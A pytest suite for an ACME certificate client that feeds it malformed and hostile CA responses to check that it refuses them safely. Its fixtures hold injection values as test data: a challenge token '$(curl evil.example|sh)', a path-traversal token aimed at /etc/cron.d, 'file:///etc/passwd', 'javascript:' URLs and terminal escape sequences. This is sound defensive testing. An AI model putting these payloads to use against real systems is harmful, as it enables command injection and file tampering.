"""ACME rows: a server that plays along until the step of the row."""

import copy
import datetime
import json
import os
import re
import signal
import threading
import time

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

import acme_server
from acme_server import Acme, build, issue, problem
from hostile import Answer, head
from lib.certs import Authority, key_pem, pem
from lib.manifests import certificate
from lib.wait import until
from victim import CertificateVictim

AUTHORITY = Authority("acme-tls")
OTHER = "https://evil.example"


def body(**changes):
    """The answer's JSON with members changed; None removes one."""
    def twist(answer, request, acme):
        new = copy.deepcopy(answer.body)
        for key, value in changes.items():
            if value is None:
                new.pop(key, None)
            else:
                new[key] = value(new.get(key), acme) if callable(value) else value
        answer.body = new
        return answer
    return twist


def raw(data, kind="application/json"):
    def twist(answer, request, acme):
        answer.body, answer.type = data(answer, acme) if callable(data) else data, kind
        return answer
    return twist


def header(name, *values):
    def twist(answer, request, acme):
        answer.headers = [(k, v) for k, v in answer.headers if k != name] + [(name, v) for v in values]
        return answer
    return twist


def refuse(name, detail="because", status=400, headers=(), **more):
    def twist(answer, request, acme):
        refusal = problem(name, detail, status, **more)
        refusal.headers = [h for h in answer.headers if h[0] == "Replay-Nonce"] + list(headers)
        return refusal
    return twist


def first(times, twist):
    """Only the first answers."""
    left = [times]

    def act(answer, request, acme):
        left[0] -= 1
        return twist(answer, request, acme) if left[0] >= 0 else answer
    return act


def drop(answer, request, acme):
    return lambda c: c.sock.close()


def no_nonce(name):
    def twist(answer, request, acme):
        return problem(name)
    return twist


def challenge(**changes):
    return body(challenges=lambda old, acme: [{**old[0], **changes}])


def leaf(**how):
    return lambda csr, acme: pem(build(csr, acme, **how)) + acme.issuer.pem()


def chain_of_strangers(csr, acme):
    return pem(build(csr, acme)) + Authority("stranger").pem()


def wrong_order(csr, acme):
    return acme.issuer.pem() + pem(build(csr, acme))


def other_names(csr, acme):
    return leaf(names=x509.SubjectAlternativeName([x509.DNSName("a.example"), x509.DNSName("evil.example")]))(csr, acme)


TOKENS = {"slash": "../../../../etc/cron.d/x", "dots": "..................", "percent": "aaaaaaaaaaaaaaaa%00", "space": "aaaaaaaaaaaaaaaa b",
          "shell": "$(curl evil.example|sh)aaaaaaaa", "megabyte": "a" * 200000, "short": "abc", "other letters": "ä" * 20, "empty": "",
          "number": 12345678901234567890123456789 % 2 ** 62, "newline": "aaaaaaaaaaaaaaaa\naaaa"}


class Row:
    """twists: what the server does at which step; leaf: what it issues. why: the reason that must be named."""

    def __init__(self, row, name, why, limit=13.0, leaf=None, after=None, good=False, statuses=(1, 4, 75), **twists):
        self.row, self.name, self.why, self.limit, self.leaf, self.after, self.good = row, name, why, limit, leaf, after, good
        self.twists, self.statuses = twists, statuses

    def run(self):
        with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
            victim.publish()
            acme.twist, acme.leaf = dict(self.twists), self.leaf
            acme.counts.clear()
            placed = acme.placed
            victim.attack(timeout=60)
            if self.good:
                assert victim.status == 0, victim.err
                assert victim.snapshot() != victim.before
                victim.secrets_seen.append(victim._material())
                victim.no_secret()
            else:
                victim.refused(self.why, statuses=self.statuses, peer=victim.peer, limit=self.limit)
            assert acme.placed - placed <= 1, "more than one order was placed"
            if self.after:
                self.after(acme, victim)


def few_tries(step, most):
    def after(acme, victim):
        assert acme.counts.get(step, 0) <= most, f"{acme.counts} requests"
    return after


def waits(least, most):
    def after(acme, victim):
        assert least <= victim.wait_s <= most, f"the next try is in {victim.wait_s:.0f} s"
    return after


NONCES = 4 * 6  # a command tries four times, each time with a nonce and five more
ELSEWHERE = r"(?i)elsewhere|https|names? a|no \w+"
PROTO = r"(?i)status|order|JSON|elsewhere"
TABLE = [
    *(Row("A1", f"without {key}", rf"has no {key}", directory=body(**{key: None})) for key in ("newNonce", "newAccount", "newOrder")),
    Row("A1", "wrong types", r"has no newNonce", directory=body(newNonce=7)),
    Row("A1", "a list", r"directory", directory=raw([])),
    Row("A1", "relative", ELSEWHERE, directory=body(newOrder="/neworder")),
    Row("A1", "http", ELSEWHERE, directory=body(newOrder=lambda old, acme: old.replace("https", "http"))),
    Row("A1", "file", ELSEWHERE, directory=body(newNonce="file:///etc/passwd")),
    Row("A1", "other host", ELSEWHERE, directory=body(newAccount=f"{OTHER}/account")),
    Row("A1", "user in URL", ELSEWHERE, directory=body(newOrder=lambda old, acme: old.replace("https://", "https://evil.example@"))),
    Row("A2", "5 MB", r"larger", directory=raw(lambda a, s: json.dumps({**a.body, "x": "x" * (5 << 20)}))),
    Row("A3", "missing", r"nonce", nonce=header("Replay-Nonce")),
    Row("A3", "empty", r"nonce", nonce=header("Replay-Nonce", "")),
    Row("A3", "1 MB", r"(?i)header", nonce=header("Replay-Nonce", "a" * (1 << 20))),
    Row("A3", "20 kB", r"(?i)nonce|header", nonce=header("Replay-Nonce", "a" * 20000)),
    Row("A3", "not base64url", r"nonce", nonce=header("Replay-Nonce", "a b+/=")),
    Row("A3", "CR LF", r"(?i)nonce|header", nonce=header("Replay-Nonce", "aaaa\rbbbb")),
    Row("A3", "twice", r"(?i)twice|nonce", nonce=header("Replay-Nonce", "aaaaaaaa", "bbbbbbbb")),
    Row("A3", "reused", r"badNonce", after=few_tries("neworder", NONCES), nonce=header("Replay-Nonce", "old"),
        neworder=lambda a, r, s: header("Replay-Nonce", "old")(problem("badNonce"), r, s)),
    Row("A4", "forever", r"badNonce", neworder=refuse("badNonce"), after=few_tries("neworder", NONCES)),
    Row("A5", "without a new one", r"badNonce|nonce", neworder=no_nonce("badNonce"), after=few_tries("neworder", NONCES)),
    Row("A4", "for a while", "", neworder=first(20, refuse("badNonce")), good=True),
    Row("A4", "busy for a while", "", neworder=first(6, refuse("serverInternal", status=500)), good=True),
    Row("A6", "no Location", r"order URL", neworder=header("Location")),
    Row("A6", "other host", r"order URL", neworder=header("Location", f"{OTHER}/order/1")),
    Row("A6", "javascript", r"order URL", neworder=header("Location", "javascript:alert(1)")),
    Row("A8", "unknown status", r"status", neworder=body(status="perhaps")),
    Row("A8", "status a number", r"status", neworder=body(status=1)),
    Row("A9", "ready to pending", r"pending|ready", finalize=body(status="pending", certificate=None)),
    Row("A9", "ready for ever", r"ready", finalize=body(status="ready", certificate=None), poll=body(status="ready", certificate=None), limit=30),
    Row("A10", "other identifier", r"nobody asked", neworder=body(identifiers=[{"type": "dns", "value": "evil.example"}])),
    Row("A10", "one more", r"names", neworder=body(identifiers=lambda old, s: old + [{"type": "dns", "value": "evil.example"}])),
    Row("A10", "no authorizations", r"0 authorizations", neworder=body(authorizations=[])),
    Row("A10", "1,500 authorizations", r"authorizations", neworder=body(authorizations=lambda old, s: old * 1500)),
    Row("A10", "10,000 authorizations", r"authorizations|larger", neworder=body(authorizations=lambda old, s: old * 10000)),
    Row("A10", "elsewhere", r"elsewhere", neworder=body(authorizations=[f"{OTHER}/authz/1"])),
    Row("A10", "finalize elsewhere", r"finalize", neworder=body(finalize=f"{OTHER}/finalize/1")),
    Row("A10", "authorization for another", r"nobody asked", authz=body(identifier={"type": "dns", "value": "evil.example"})),
    *(Row("A12", name, r"(?i)token|JSON", authz=challenge(token=value)) for name, value in TOKENS.items()),
    Row("A12", "challenge elsewhere", r"elsewhere", authz=challenge(url=f"{OTHER}/challenge/1")),
    Row("A13", "unknown types only", r"no (http-01|challenge)", authz=challenge(type="teleport-01")),
    Row("A13", "no challenges", r"no (http-01|challenge)", authz=body(challenges=[])),
    Row("A13", "challenges not a list", r"no (http-01|challenge)", authz=body(challenges={"type": "http-01"})),
    Row("A16", "invalid", r"invalid|validate|refuse", finalize=body(status="invalid", certificate=None)),
    Row("A16", "invalid with a reason", r"badCSR", finalize=body(status="invalid", certificate=None, error={
        "type": "urn:ietf:params:acme:error:badCSR", "detail": "no"})),
    Row("A16", "certificate elsewhere", r"certificate URL", finalize=body(certificate=f"{OTHER}/cert")),
    Row("A16", "no certificate", r"certificate URL", finalize=body(certificate=None)),
    Row("A17", "HTML", r"text/html", certificate=raw("<html>", "text/html")),
    Row("A17", "empty", r"(?i)chain|certificate", certificate=raw("", "application/pem-certificate-chain")),
    Row("A17", "empty block", r"(?i)PEM|certificate", certificate=raw("-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n",
                                                                  "application/pem-certificate-chain")),
    Row("A17", "a key", r"(?i)PEM|certificate|key", certificate=raw(lambda a, s: key_pem(ec.generate_private_key(ec.SECP256R1())),
                                                                "application/pem-certificate-chain")),
    Row("A17", "leaf and a key", r"(?i)PEM|certificate|key", certificate=raw(
        lambda a, s: a.body + key_pem(ec.generate_private_key(ec.SECP256R1())), "application/pem-certificate-chain")),
    Row("A17", "10,000", r"(?i)larger|certificates", leaf=lambda csr, s: issue(csr, s) + s.issuer.pem() * 10000),
    Row("A17", "200", r"(?i)larger|certificates", leaf=lambda csr, s: issue(csr, s) + s.issuer.pem() * 200),
    Row("A17", "another key", r"(?i)key", leaf=leaf(key=ec.generate_private_key(ec.SECP256R1()).public_key())),
    Row("A17", "other names", r"(?i)name", leaf=other_names),
    Row("A17", "wildcard", r"(?i)name", leaf=leaf(names=x509.SubjectAlternativeName([x509.DNSName("*.example")]))),
    Row("A17", "expired", r"(?i)expired|not_?after|ends|valid", leaf=leaf(before=-48, after=-24)),
    Row("A17", "not yet", r"(?i)not yet|valid|begin|future", leaf=leaf(before=24, after=48)),
    Row("A17", "ends at once", r"(?i)expired|ends|valid|remain", leaf=leaf(after=0)),
    Row("A17", "CA", r"(?i)CA", leaf=leaf(ca=True)),
    Row("A17", "chain of strangers", r"(?i)chain|issu|belong|sign", leaf=chain_of_strangers),
    Row("A17", "SHA-1", r"(?i)SHA-?1|digest|signature|weak", leaf=leaf(digest=hashes.SHA1())),
    Row("A17", "wrong order is put right", "", leaf=wrong_order, good=True),
    Row("A19", "detail of 200 kB", r"caa", neworder=refuse("caa", "x" * 200000)),
    Row("A19", "detail of 1 MB", r"(?i)caa|larger", neworder=refuse("caa", "x" * 1000000)),
    Row("A19", "escapes", r"caa", neworder=refuse("caa", "\x1b]0;pwned\x07\x1b[2J\r\nSet-Cookie: a\x7f\x9bb")),
    Row("A19", "formats", r"%n%s", neworder=refuse("caa", "%n%s%n%s%x")),
    Row("A19", "a NUL", r"HTTP 400", neworder=refuse("caa", "a\0b")),
    Row("A19", "2,000 deep", r"HTTP 400", neworder=lambda a, r, s: Answer(
        400, '{"type":"urn:ietf:params:acme:error:caa","subproblems":[' + '{"subproblems":[' * 2000 + ']}' * 2000 + ']}',
        "application/problem+json", [("Replay-Nonce", s.nonce())])),
    Row("A19", "type not a URN", r"javascript:alert", neworder=lambda a, r, s: Answer(
        403, {"type": "javascript:alert(1)\n" + "x" * 5000, "detail": "d"}, "application/problem+json", [("Replay-Nonce", s.nonce())])),
    Row("A19", "type of ours", r"budget: because", neworder=lambda a, r, s: Answer(
        403, {"type": "budget", "detail": "because"}, "application/problem+json", [("Replay-Nonce", s.nonce())]), after=waits(60, 90000)),
    Row("A19", "not JSON", r"HTTP 403", neworder=lambda a, r, s: Answer(403, "<html>", "application/problem+json", [
        ("Replay-Nonce", s.nonce())])),
    Row("A20", "with Retry-After", r"rateLimited", neworder=refuse("rateLimited", status=429, headers=[("Retry-After", "7200")]),
        after=waits(7190, 7400), statuses=(75,)),
    Row("A20", "without", r"rateLimited", neworder=refuse("rateLimited", status=429), after=waits(60, 86400), statuses=(75,)),
    Row("A21", "userActionRequired", r"userActionRequired", neworder=refuse("userActionRequired", status=403), after=waits(600, 90000)),
    Row("A21", "with a page", r"see https://ca\.example/agree", neworder=refuse(
        "userActionRequired", status=403, instance="https://ca.example/agree"), after=waits(600, 90000)),
    Row("A21", "agreement at the account", r"(?i)userAction|terms", neworder=refuse(
        "userActionRequired", "the terms of service have changed", 403, [("Link", '<https://x/tos>;rel="terms-of-service"')]),
        after=waits(600, 90000)),
    Row("A22", "account forgotten", "", neworder=first(1, refuse("accountDoesNotExist")), good=True,
        after=lambda s, v: few_tries("account", 1)(s, v)),
    Row("A22", "forgotten again and again", r"accountDoesNotExist", neworder=refuse("accountDoesNotExist"), after=few_tries("account", 1)),
    Row("A22", "deactivated", r"unauthorized.*account register --new-key", neworder=refuse("unauthorized", "account is deactivated", 403)),
    Row("A22", "deactivated account object", r"deactivated.*account register --new-key", neworder=first(1, refuse("accountDoesNotExist")),
        account=body(status="deactivated")),
    Row("A22", "account elsewhere", r"account URL", neworder=first(1, refuse("accountDoesNotExist")),
        account=header("Location", f"{OTHER}/account/1")),
    Row("A25", "binding required", r"externalAccountRequired", neworder=first(1, refuse("accountDoesNotExist")),
        account=refuse("externalAccountRequired", status=403), after=waits(600, 90000)),
    Row("A28", "meta of wrong types", "", good=True, directory=body(meta=[1, 2])),
    Row("A28", "members of wrong types", "", good=True, directory=body(meta={"externalAccountRequired": "yes", "profiles": 7,
                                                                         "termsOfService": {}})),
    Row("A29", "status twice", r"(?i)JSON|twice|duplicate", neworder=raw(
        lambda a, s: json.dumps(a.body)[:-1] + ', "status": "valid", "status": "ready"}')),
    Row("A29", "newOrder twice", r"(?i)JSON|twice|duplicate", directory=raw(
        lambda a, s: json.dumps(a.body)[:-1] + f', "newOrder": "{OTHER}/x"}}')),
]


@pytest.mark.parametrize("case", TABLE)
def test_acme(case, outcome):
    outcome(case)


class Resumed:
    """Something breaks after the order was placed: the next renew goes on with it, and nothing is ordered twice."""

    def __init__(self, row, name, step, twist, why, limit=60.0):
        self.row, self.name, self.step, self.twist, self.why, self.limit = row, name, step, twist, why, limit

    def run(self):
        with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
            victim.publish()
            placed, issued = acme.placed, len(acme.issued)
            acme.twist = {self.step: self.twist}
            victim.attack(timeout=90)
            if victim.status != 0:
                victim.refused(self.why, peer=victim.peer, limit=self.limit)
                acme.twist = {}
                result = victim.run("renew", "web")
                assert result.status == 0, result
            assert victim.snapshot() != victim.before
            assert acme.placed == placed + 1 and len(acme.issued) == issued + 1, f"{acme.placed} orders, {acme.issued}"


RESUMED = [
    Resumed("A27", "drop before the chain", "certificate", drop, r"(?i)downloading"),
    Resumed("A27", "drop once", "certificate", first(1, drop), ""),
    Resumed("A27", "half a chain", "certificate", lambda a, r, s: lambda c: (c.send(head(
        "Content-Type: application/pem-certificate-chain", "Content-Length: 5000") + a.body[:100]), c.sock.close()), r"downloading"),
    Resumed("A26", "answer to finalize is lost", "finalize", drop, r"finaliz"),
    Resumed("A26", "answer to finalize is lost once", "finalize", first(1, drop), ""),
]


@pytest.mark.parametrize("case", RESUMED)
def test_resumed(case, outcome):
    outcome(case)


class Processing:
    """Never ready: a renew that is told to wait no longer says so, and the server is not flooded."""

    def __init__(self, row, name, **twists):
        self.row, self.name, self.twists = row, name, twists

    def run(self):
        with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
            victim.publish()
            acme.twist = self.twists
            acme.counts.clear()
            began = time.monotonic()
            status, out, err, seconds, peak = victim.renew("web", "--force", "--timeout", "8s", timeout=40)
            assert status == 75, f"{status}\n{out}\n{err}"
            assert seconds < 12, seconds
            assert acme.counts.get("order", 0) <= 20, acme.counts
            victim.kept()
            assert re.search(r"web", err), err
            placed = acme.placed
            acme.twist = {}
            result = victim.run("renew", "web")
            assert result.status == 0 and acme.placed == placed, result
            del began, peak, out


PROCESSING = [
    Processing("A7", "order processing", finalize=body(status="processing", certificate=None), poll=body(status="processing", certificate=None)),
    Processing("A15", "challenge processing", challenge=body(status="processing"), poll=body(status="pending")),
]


@pytest.mark.parametrize("case", PROCESSING)
def test_processing(case, outcome):
    outcome(case)


def test_resumed_order_that_fails_while_it_is_worked_on():
    """It was finalized before, is "processing" at first and then "invalid": a new one is placed at once."""
    processing, seen = body(status="processing", certificate=None), []

    def fails(answer, request, acme):
        seen.append(request.path)
        if request.path != seen[0]:
            return answer
        return processing(answer, request, acme) if len(seen) == 1 else body(status="invalid")(answer, request, acme)

    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        victim.publish()
        acme.twist = {"finalize": processing, "poll": processing}
        status, out, err, _, _ = victim.renew("web", "--force", "--timeout", "4s", timeout=40)
        assert status == 75, f"{status}\n{out}\n{err}"
        placed = acme.placed
        acme.twist = {"poll": fails}
        result = victim.run("renew", "web")
        assert result.status == 0, result
        assert acme.placed == placed + 1 and victim.snapshot() != victim.before


def test_account_that_is_forgotten_in_the_middle_of_an_order():
    """The new account has an order of its own, and that one is finalized."""
    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        victim.publish()
        placed = acme.placed
        acme.twist = {"poll": first(1, refuse("accountDoesNotExist"))}
        victim.attack(timeout=60)
        assert victim.status == 0, victim.err
        assert acme.placed == placed + 2 and acme.issued[-1] == str(acme.placed), f"{acme.issued} of {acme.placed} orders"


@pytest.mark.parametrize("command", [("register", "evil", "--new-key"), ("rollover", "evil")])
def test_no_new_account_key_under_an_order(command):
    """Its challenges are answered with the old one: refused until it is done."""
    def never(answer, request, acme):
        asked.append(request.path)
        return body(status="processing", certificate=None)(answer, request, acme)

    asked = []
    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        acme.twist = {"finalize": never, "poll": never}
        running = victim.start()
        until(lambda: len(asked) > 1, 20, "the order is being worked on")
        accounts = acme.counts["account"]
        result = victim.run("account", *command)
        assert result.status != 0 and "orders of Issuer/default/evil are under way" in result.err, result
        assert acme.counts["account"] == accounts
        running.stop()


def test_alternate_chain_that_is_none():
    """The preferred chain is a wish: what the CA offers in its place can't spoil the first one."""
    def with_link(answer, request, acme):
        if request.path.endswith("x"):
            return raw("no chain", "text/html")(answer, request, acme)
        return header("Link", f'<{acme.url}{request.path}x>;rel="alternate"')(answer, request, acme)

    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY, preferredChain="Nobody's Root") as victim:
        acme.do_certificate = lambda number, payload: Answer(200, acme.orders[number.rstrip("x")]["pem"],
                                                             "application/pem-certificate-chain")
        acme.twist = {"certificate": with_link}
        victim.publish()
        assert acme.counts["certificate"] == 2, acme.counts


@pytest.mark.parametrize("name", ["other.example; accounturi=https://other.example/acct/666", 'a.example" "b', "a.example\n"])
def test_name_of_the_ca_with_more_in_it(name):
    """What is to be published for dns-persist-01 has the CA's own word for itself, and nothing beside it."""
    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY, solvers=[{"dnsPersist01": {}}]) as victim:
        acme.twist = {"directory": body(meta={"caaIdentities": [name]})}
        result = victim.run("dns-record", "web")
        assert result.status != 0 and "can't stand in a DNS record" in result.err, result
        assert "accounturi" not in result.out, result.out


def test_superseded_order_is_called_off():
    """The manifest asks for another name while the CA works on the old order for ever: nobody waits for that."""
    asked = []

    def never(answer, request, acme):
        if request.path.endswith("/1"):
            asked.append(request.path)
            answer = body(status="processing", certificate=None)(answer, request, acme)
        return answer

    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        acme.twist = {"finalize": never, "poll": never}
        running = victim.start()
        until(lambda: len(asked) > 2, 20, "the order is being worked on")
        path = victim.manifests / "set.yaml"
        path.write_text(path.read_text().replace("a.example", "b.example"))
        victim.ok("reload")
        until(lambda: acme.placed == 2, 15, "the new name is ordered")
        before = len(asked)
        time.sleep(3)
        assert len(asked) <= before + 1, "the old order is still asked for"
        assert running.stop() == 0


@pytest.mark.parametrize("always", [False, True])
def test_resumed_order_that_is_of_no_use(always):
    """The order that is gone on with gave a certificate for another key: a new one is placed, once."""
    stranger = ec.generate_private_key(ec.SECP256R1()).public_key()

    def until_resumed(answer, request, acme):
        seen.append(acme.counts["order"])
        return drop(answer, request, acme) if acme.counts["order"] == seen[0] else answer

    seen = []

    def wrong(csr, acme):
        return leaf(key=stranger)(csr, acme) if always or len(acme.issued) == issued else issue(csr, acme)

    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        victim.publish()
        placed, issued = acme.placed, len(acme.issued)
        acme.twist, acme.leaf = {"certificate": until_resumed}, wrong
        victim.attack(timeout=60)
        assert acme.placed == placed + 2, f"{acme.counts} {victim.err}"
        if always:
            victim.refused(r"(?i)key", peer=victim.peer, limit=30)
            victim.run("renew", "web")
            assert acme.placed <= placed + 3, "orders at the pace of its failures"
        else:
            assert victim.status == 0, victim.err
            assert victim.snapshot() != victim.before


def test_one_by_one_after_two_deaths():
    """In work at two deaths of the keeper: alone from then on, so that the third singles out one, which then waits."""
    def hang(answer, request, acme):
        placing.append(1)
        return lambda c: held.wait(60)

    placing, held = [], threading.Event()
    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        names = ["b", "c", "d"]
        acme.twist = {"neworder": hang}
        victim.manifest("more", *(certificate(n, "evil", [f"{n}.example"]) for n in names))
        running = victim.start()
        for most in (4, 4, 1):
            until(lambda: len(placing) == most, 20, f"{most} orders are placed")
            time.sleep(1)
            assert len(placing) == most, f"{len(placing)} of {most} at once"
            (keeper,) = [pid for pid, name in running.rooms().items() if name == "keyturn-keeper"]
            placing.clear()
            os.kill(keeper, signal.SIGKILL)
        until(lambda: len(placing) == 1, 20, "the next is on its turn")
        rows = {row["name"]: row for row in victim.json("status")["credentials"]}
        failed = [name for name, row in rows.items() if row["lastError"]]
        assert len(failed) == 1 and "died 3 times" in rows[failed[0]]["lastError"], rows
        assert rows[failed[0]]["nextTry"] and rows[failed[0]]["attempts"] == 1
        acme.twist = {}
        held.set()
        assert running.stop() == 0


def moment(**delta):
    return (datetime.datetime.utcnow() + datetime.timedelta(**delta)).strftime("%Y-%m-%dT%H:%M:%SZ")


class Information:
    """What a CA says of renewal: followed only where it makes sense, asked for again after an hour at the soonest, and
    never followed in a loop."""

    row = "A24"

    def __init__(self, name, twist, renews=False, followed=False, least=59, most=25 * 60):
        self.name, self.twist, self.renews, self.followed, self.least, self.most = name, twist, renews, followed, least, most

    def plan(self, victim):
        row, = [r for r in victim.json("plan")["plan"] if r["name"] == "web"]
        return row

    def run(self):
        with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
            acme.twist = {"directory": body(renewalInfo=lambda *_: f"{acme.url}/renewalinfo"), "renewalinfo": self.twist}
            victim.publish()
            usual = self.plan(victim)["renewAt"]
            status, out, err, seconds, peak = victim.renew("web", "-v", timeout=60)
            assert status == 0, f"{out}\n{err}"
            assert seconds < 13 and peak - victim.good_peak < 40 * 1024, (seconds, peak)
            asked = acme.counts.get("renewalinfo", 0)
            assert 1 <= asked <= 2, acme.counts
            row = self.plan(victim)
            info = row["renewalInfo"]
            if self.renews:
                assert victim.snapshot() != victim.before and len(acme.issued) == 2
            else:
                victim.kept()
                assert len(acme.issued) == 1
            assert info["followed"] == self.followed, row
            if not self.followed:
                assert row["renewAt"] == usual, (usual, row)
            assert moment(minutes=self.least) <= info["nextCheck"] <= moment(minutes=self.most), info
            said = str(row) + victim.run("why", "web").out + victim.run("audit", "-o", "json").out
            assert "javascript" not in said and "\x1b" not in said and "evil.example" not in said
            # Not asked again and not renewed again, however often somebody comes by.
            for _ in range(3):
                assert victim.run("renew", "web").status == 0
            assert acme.counts["renewalinfo"] <= asked + (1 if self.renews else 0), acme.counts
            assert len(acme.issued) == (2 if self.renews else 1)
            victim.secrets_seen.append(victim._material())
            victim.out, victim.err = out, err
            victim.no_secret()


def window(start, end, **more):
    """Evaluated when it is asked for."""
    return lambda answer, request, acme: body(suggestedWindow=lambda *_: {"start": moment(**start), "end": moment(**end)}, **more)(
        answer, request, acme)


DAY, CENTURY = {"hours": 10}, {"days": 36500}
INFORMATION = [
    Information("good", lambda a, r, s: a, followed=True),
    Information("end before start", window({"hours": 11}, DAY)),
    Information("no length", window(DAY, DAY)),
    Information("a hundred years", window({"days": -1}, CENTURY)),
    Information("in a hundred years", window(CENTURY, {"days": 36501})),
    Information("javascript", window({"hours": 11}, DAY, explanationURL="javascript:alert(1)")),
    Information("escapes", window({"hours": 11}, DAY, explanationURL="https://evil.example/\x1b[2J\r\n")),
    Information("year one", body(suggestedWindow={"start": "0001-01-01T00:00:00Z", "end": "0001-01-02T00:00:00Z"})),
    Information("no window", body(suggestedWindow=None)),
    Information("other types", body(suggestedWindow=[1, "2"])),
    Information("not a time", body(suggestedWindow={"start": "soon", "end": "later"})),
    Information("twice", raw(lambda a, s: '{"suggestedWindow": {}, "suggestedWindow": ' + json.dumps(a.body["suggestedWindow"]) + "}")),
    Information("HTML", raw("<html>it works</html>", "text/html")),
    Information("5 MB", raw(lambda a, s: '{"a": "' + "x" * 5000000 + '"}')),
    Information("2,000 deep", raw('{"suggestedWindow":' * 2000 + "1" + "}" * 2000)),
    Information("404", refuse("malformed", status=404)),
    Information("500", refuse("serverInternal", status=500)),
    Information("503 for a second", refuse("rateLimited", status=503, headers=[("Retry-After", "1")])),
    Information("back in a second", header("Retry-After", "1"), followed=True, most=70),
    Information("back in an age", header("Retry-After", "1000000000000000000"), followed=True, least=23 * 60),
    Information("back before now", header("Retry-After", "Thu, 01 Jan 1970 00:00:00 GMT"), followed=True),
    Information("elsewhere", lambda a, r, s: Answer(302, b"", None, [("Location", f"{OTHER}/x")])),
    Information("drop", drop),
]


@pytest.mark.parametrize("case", INFORMATION)
def test_renewal_information(case, outcome):
    outcome(case)


def test_renewal_information_is_not_followed_in_a_loop():
    """Every new certificate is said to be due already: each is believed once and no more."""
    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        acme.twist = {"directory": body(renewalInfo=lambda *_: f"{acme.url}/renewalinfo"),
                      "renewalinfo": window({"hours": -3}, {"hours": -2})}
        victim.publish()
        for _ in range(6):
            victim.run("renew", "web")
        assert len(acme.issued) <= 3, f"{acme.counts}"
        victim.run("audit", "--verify")


LIMITED = refuse("rateLimited", status=429, headers=[("Retry-After", "7200")])


@pytest.mark.parametrize("refusal, obeyed", [(refuse("caa"), False), (LIMITED, True), (refuse("rateLimited", status=429), True)])
def test_renew_in_backoff(refusal, obeyed):
    """Without a name it says when the next try is and what tries now; by name it tries now, but for what the CA asked."""
    with Acme(AUTHORITY) as acme, CertificateVictim(acme, AUTHORITY) as victim:
        acme.twist = {"neworder": refusal}
        victim.run("renew")
        assert acme.counts["neworder"] == 1
        result = victim.run("renew")
        assert acme.counts["neworder"] == 1 and result.status in (1, 75), result
        assert "the next try is in" in result.err, result
        assert ("'keyturn renew --force web' tries now" if obeyed else "'keyturn renew web' tries now") in result.err, result
        victim.run("renew", "web")
        assert acme.counts["neworder"] == (1 if obeyed else 2)
        victim.run("renew", "web", "--force")
        assert acme.counts["neworder"] == (2 if obeyed else 3)
